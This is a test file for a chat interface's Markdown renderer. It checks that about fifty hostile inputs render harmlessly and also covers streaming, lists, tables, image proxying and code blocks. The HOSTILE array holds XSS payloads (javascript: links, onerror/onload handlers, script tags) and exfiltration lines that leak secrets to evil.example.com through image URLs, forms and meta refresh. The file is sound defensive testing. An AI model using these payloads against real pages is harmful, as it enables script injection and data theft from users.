import { HostProvider } from "@ensemble/host/HostContext";
import { memoryHost } from "@ensemble/host/memory-host";
import { startTexts } from "@ensemble/i18n/text";
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { afterEach, beforeAll, describe, expect, test } from "vitest";
import { serve } from "../testing";
import { Markdown } from "./Markdown";

beforeAll(() => startTexts("en", ["chat", "common", "problems"]));
afterEach(cleanup);

function show(text: string, streaming = false): HTMLElement {
  const { container } = render(
    <HostProvider host={memoryHost()}>
      <Markdown text={text} streaming={streaming} />
    </HostProvider>,
  );
  return container;
}

const HOSTILE = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](<java\\\nscript:alert(1)>)",
  "[x]( javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](blob:https://example.com/1)",
  "[x](file:///etc/passwd)",
  "[x](/api/accounts/sign-out)",
  "[x](//evil.example.com)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "[x]\n\n[x]: <javascript:alert(1)> 'title'",
  "[ref]: data:text/html,x\n\nlater [ref]",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "javascript:alert(1)",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form action='https://evil.example.com'><input name=p><button>x",
  "<style>*{background:url(https://evil.example.com)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example.com'>",
  "<base href='https://evil.example.com'>",
  "<object data='x'></object><embed src='x'>",
  "<details open ontoggle=alert(1)>x</details>",
  "![x](https://evil.example.com/leak.png?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x][ref]\n\n[ref]: https://evil.example.com/leak.png",
  '![x](https://evil.example.com/"onerror="alert(1))',
  "[![x](https://evil.example.com/a.png)](javascript:alert(1))",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
  "$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://evil.example.com/a.png}$",
  "$$\\htmlData{onclick=alert(1)}{x}$$",
  "```html\n<script>alert(1)</script>\n```",
  "```<img src=x onerror=alert(1)>\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "[x](https://example.com 'title\" onclick=\"alert(1)')",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "- [x](javascript:alert(1))\n  <script>alert(1)</script>",
  "> ![x](//evil.example.com/a.png)",
];

const FORBIDDEN =
  "script, img, iframe, object, embed, form, style, link, meta, base, video, audio, source, [src], [srcdoc], [srcset], [action], [formaction]";
const ALLOWED_LINK = /^(https?:|mailto:|tel:)/;

function faultsIn(container: HTMLElement): string[] {
  const all = [...container.querySelectorAll("*")];
  return [
    ...[...container.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML),
    ...all
      .flatMap((element) => [...element.attributes])
      .filter(({ name, value }) => name.startsWith("on") || /url\(|javascript:/i.test(value))
      .map(({ name, value }) => `${name}=${value}`),
    ...[...container.querySelectorAll("[href]")]
      .map((element) => element.getAttribute("href") ?? "")
      .filter((href) => !ALLOWED_LINK.test(href)),
  ];
}

describe("Markdown with hostile text", () => {
  test.each(HOSTILE)("runs nothing, fetches nothing and leads nowhere unsafe: %j", (text) => {
    expect(faultsIn(show(text))).toEqual([]);
  });

  test("neither while it streams, wherever it is cut", { timeout: 60_000 }, () => {
    for (const text of HOSTILE) {
      for (let end = 1; end <= text.length; end += 3) {
        expect(faultsIn(show(text.slice(0, end), true)), text.slice(0, end)).toEqual([]);
        cleanup();
      }
    }
  });

  test("every link opens apart and tells the other site nothing", () => {
    show("[docs](https://example.com/a) and https://example.com/b and <mail@example.com>");

    const links = screen.getAllByRole("link");

    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://example.com/a",
      "https://example.com/b",
      "mailto:mail@example.com",
    ]);
    for (const link of links) {
      expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
      expect(link.getAttribute("target")).toBe("_blank");
    }
  });
});

describe("Markdown", () => {
  test("names the site of a remote image in its place", () => {
    const container = show("![A diagram](https://img.example.com/a.png)");

    expect(container.textContent).toContain("A diagram");
    expect(screen.getByRole("link", { name: "Open on img.example.com" })).toBeTruthy();
  });

  // attacks.md, 15
  test("shows the whole address of a remote image before it is loaded", () => {
    const address = `https://img.example.com/a.png?q=${"a secret of the chat ".repeat(20).trim().replaceAll(" ", "+")}`;
    const container = show(`![A diagram](${address})`);
    expect(container.textContent).toContain(address);
  });

  test("shows a remote image only when it is asked for, and by way of the server", async () => {
    const seen = serve({ "POST /api/img_proxy/links": { address: "/api/img_proxy/proxy_url/x?e=1&s=2" } });
    const container = show("![A diagram](https://img.example.com/a.png?q=secret)");
    expect(container.querySelector("img")).toBeNull();
    expect(seen).toEqual([]);

    await userEvent.click(screen.getByRole("button", { name: "Show image" }));

    const image = await screen.findByRole("img", { name: "A diagram" });
    expect(image.getAttribute("src")).toBe("/api/img_proxy/proxy_url/x?e=1&s=2");
    expect(seen.map(({ body }) => body)).toEqual([{ url: "https://img.example.com/a.png?q=secret" }]);
  });

  // spec §8: "Failed to load image"
  test("says that a remote image cannot be shown, and keeps the way to it", async () => {
    serve({ "POST /api/img_proxy/links": { address: "/api/img_proxy/proxy_url/x" } });
    show("![A diagram](https://img.example.com/a.png)");
    await userEvent.click(screen.getByRole("button", { name: "Show image" }));
    fireEvent.error(await screen.findByRole("img", { name: "A diagram" }));

    expect(screen.getByRole("status").textContent).toBe("Failed to load image");
    expect(screen.getByRole("link", { name: "Open on img.example.com" })).toBeTruthy();
  });

  test("shows HTML as the text it is", () => {
    expect(show("a <span>bold</span> move").textContent).toContain("<span>bold</span>");
  });

  test("breaks a line where a table's cell says so", () => {
    expect(show("| a |\n|---|\n| x<br>y |").querySelector("td br")).not.toBeNull();
  });

  test("finds a link's address wherever it is defined", () => {
    show("See [it][ref].\n\nMore text.\n\n[ref]: https://example.com/late\n\nEnd.");

    expect(screen.getByRole("link", { name: "it" }).getAttribute("href")).toBe("https://example.com/late");
  });

  test("keeps a footnote's text readable", () => {
    expect(show("Claim[^1].\n\nMore.\n\n[^1]: The source of it.\n\nEnd.").textContent).toContain(
      "The source of it.",
    );
  });

  test("closes what is half-open while text arrives", () => {
    const container = show("This is **bo", true);

    expect(container.querySelector("strong")?.textContent).toBe("bo");
  });

  test("keeps the elements of settled blocks when text is added", () => {
    const host = memoryHost();
    const at = (text: string) => (
      <HostProvider host={host}>
        <Markdown text={text} streaming />
      </HostProvider>
    );
    const { container, rerender } = render(at("# Title\n\nFirst.\n\nSecond"));
    const [heading, first] = [container.querySelector("h1"), container.querySelector("p")];

    rerender(at("# Title\n\nFirst.\n\nSecond and third.\n\n- a\n- b"));

    expect(container.querySelector("h1")).toBe(heading);
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelectorAll("li")).toHaveLength(2);
  });

  test("keeps the items of a list when it grows, when it ends, and when there is room in it", () => {
    const host = memoryHost();
    const points = Array.from({ length: 20 }, (_, at) => `${at + 3}. point **${at}**\n`).join("");
    const at = (text: string, streaming: boolean) => (
      <HostProvider host={host}>
        <Markdown text={text} streaming={streaming} />
      </HostProvider>
    );
    const { container, rerender } = render(at(`Intro.\n\n${points}`, true));
    const [list, first] = [container.querySelector("ol"), container.querySelector("li")];

    rerender(at(`Intro.\n\n${points}23. point\n    - with **one** in it\n\nAnd th`, true));
    rerender(at(`Intro.\n\n${points}23. point\n    - with **one** in it\n\nAnd then.`, false));

    expect(container.querySelector("ol")).toBe(list);
    expect(container.querySelector("li")).toBe(first);
    expect(list?.start).toBe(3);
    expect(container.querySelectorAll("ol > li")).toHaveLength(21);
    expect(container.querySelector("ol > li li strong")?.textContent).toBe("one");
    expect([...container.querySelectorAll(".markdown p")].map((p) => p.textContent)).toEqual([
      "Intro.",
      "And then.",
    ]);
  });

  test("gives every item the room that one of them asks for", () => {
    const points = Array.from({ length: 20 }, (_, at) => `- point ${at}\n`).join("");

    expect(show(points).querySelectorAll("li > p")).toHaveLength(0);
    expect(show(`${points}\n- one more`).querySelectorAll("li > p")).toHaveLength(21);
  });

  test.each([
    "- a\n- b\n  - c\n    - d\n- e",
    "1. a\n\n   more\n2. b",
    "- [ ] open\n- [x] done",
    "* a\n* b\n+ c\n+ d",
    "- a\n  > quoted\n- ```js\n  x\n  ```",
    "- \n- b",
    "1) a\n2) b\nlazy\n3) c",
    "- | a |\n  |---|\n  | 1 |\n- b",
  ])("draws the list %j as the specification says", (text) => {
    const { container } = render(<ReactMarkdown remarkPlugins={[remarkGfm]}>{text}</ReactMarkdown>);
    const outline = (element: Element): unknown[] =>
      [...element.querySelectorAll("ul, ol, li, p, blockquote, input, td")].map(
        (inner) => `${inner.tagName} ${inner.parentElement?.closest("li, ul, ol, td")?.tagName}`,
      );
    const expected = outline(container);

    expect(outline(show(text))).toEqual(expected);
  });

  test("keeps the rows of a table when it grows and when it ends", () => {
    const host = memoryHost();
    const head = "Intro.\n\n| Name | Number |\n|:--|--:|\n";
    const rows = Array.from({ length: 20 }, (_, at) => `| row **${at}** | ${at} |\n`).join("");
    const at = (text: string, streaming: boolean) => (
      <HostProvider host={host}>
        <Markdown text={text} streaming={streaming} />
      </HostProvider>
    );
    const { container, rerender } = render(at(`${head}${rows}`, true));
    const [table, first] = [container.querySelector("table"), container.querySelector("td")];

    rerender(at(`${head}${rows}| one **mo`, true));
    expect(container.querySelector("tr:last-child > td > strong")?.textContent).toBe("mo");
    rerender(at(`${head}${rows}| one **more** | 21 |\n\nAnd then.`, false));

    expect(container.querySelector("table")).toBe(table);
    expect(container.querySelector("td")).toBe(first);
    expect(container.querySelectorAll("thead > tr > th")).toHaveLength(2);
    expect(container.querySelectorAll("tbody")).toHaveLength(1);
    expect(container.querySelectorAll("tbody > tr")).toHaveLength(21);
    expect([...container.querySelectorAll(".markdown p")].map((p) => p.textContent)).toEqual([
      "Intro.",
      "And then.",
    ]);
  });

  const LONG_TABLE = Array.from({ length: 19 }, (_, at) => `| ${at} | \`a\\|b\` | [x][ref] |`).join("\n");
  test.each([
    "| a | b |\n|---|---|",
    "a | b\n:-: | -\n1 | 2\nlazy line\n\nAfter",
    "| a |\n|---|\n| 1 |\n> quoted",
    "| a | b | c |\n|---|:--|--:|\n| 1 |\n| 1 | 2 | 3 | 4 |\n|",
    `| a | b | c |\n|---|:--|--:|\n${LONG_TABLE}\n\n[ref]: https://example.com/x`,
    `| a | b | c |\n|---|:--|--:|\n${LONG_TABLE}\n# Heading\ntext`,
    "| a |\n| b |\n",
    "a\n---\nb",
  ])("draws the table %j as the specification says", (text) => {
    const { container } = render(<ReactMarkdown remarkPlugins={[remarkGfm]}>{text}</ReactMarkdown>);
    const outline = (element: Element): unknown[] =>
      [
        ...element.querySelectorAll<HTMLElement>("th, td, tr, tbody, thead, p, h1, h2, blockquote, code, a"),
      ].map(
        (inner) =>
          `${inner.tagName} ${inner.parentElement?.tagName} ${inner.textContent} ${inner.style.textAlign}`,
      );
    const expected = outline(container).map((line) => String(line).replace(/ DIV /, " "));

    expect(outline(show(text)).map((line) => String(line).replace(/ DIV /, " "))).toEqual(expected);
  });

  test("offers code to be copied, wrapped and downloaded", () => {
    const container = show("```ts\nlet a = 1;\n```");

    expect(container.querySelector("figcaption")?.textContent).toContain("TypeScript");
    for (const name of ["Copy code", "Wrap long lines", "Download"]) {
      expect(screen.getByRole("button", { name })).toBeTruthy();
    }
    expect(container.querySelector("figure")?.dir).toBe("ltr");
  });

  test("lets lists and tables choose their side, and code stay left-to-right", () => {
    const container = show("- قائمة\n\n| أ |\n|---|\n| `x` |");

    expect(container.querySelector("ul")?.dir).toBe("rtl");
    expect(container.querySelector(".markdown-table")?.getAttribute("dir")).toBe("rtl");
    expect(container.querySelector("td code")?.getAttribute("dir")).toBe("ltr");
  });
});
